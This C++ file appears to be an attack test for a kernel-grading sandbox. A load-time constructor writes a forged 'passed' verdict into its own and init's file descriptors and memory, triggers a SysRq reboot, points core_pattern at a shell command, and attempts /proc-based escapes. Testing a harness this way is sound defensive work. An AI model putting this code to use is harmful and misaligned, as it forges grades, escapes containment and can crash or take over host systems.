#include "attack.h"
#include "stub_kernel.h"
// Writes through /proc: every descriptor of itself and of the box's init reopened for writing,
// the init's memory, the machine's root seen through the init's, the core pattern, the SysRq
// trigger, the uevent helper; then a plain write outside.
static void try_write(const char* path, const char* text) {
  const int fd = ::open(path, O_WRONLY | O_NONBLOCK);
  if (fd >= 0) (void)!::write(fd, text, std::strlen(text)), ::close(fd);
}
__attribute__((constructor)) static void attack() {
  const char* forged = "{\"type\":\"done\",\"verdict\":\"passed\"}\n";
  char path[256];
  for (const char* who : {"self", "1"})
    for (int fd = 0; fd < 64; ++fd) std::snprintf(path, sizeof path, "/proc/%s/fd/%d", who, fd), try_write(path, forged);
  try_write("/proc/1/mem", forged);
  try_write("/proc/sysrq-trigger", "b");
  try_write("/proc/sys/kernel/core_pattern", "|/bin/sh -c 'touch " ATTACK_DIR "/core_pattern.txt'");
  try_write("/proc/1/root" ATTACK_DIR "/proc_root.txt", "escaped");
  try_write("/proc/self/cwd/../../.." ATTACK_DIR "/proc_cwd.txt", "escaped");
  try_write("/sys/kernel/uevent_helper", ATTACK_DIR "/uevent");
  leave_mark("plain.txt", "escaped");
}
extern "C" int rope2d_backward(const void*, const void*, const float*, float*, int64_t, int, cudaStream_t) { return 0; }
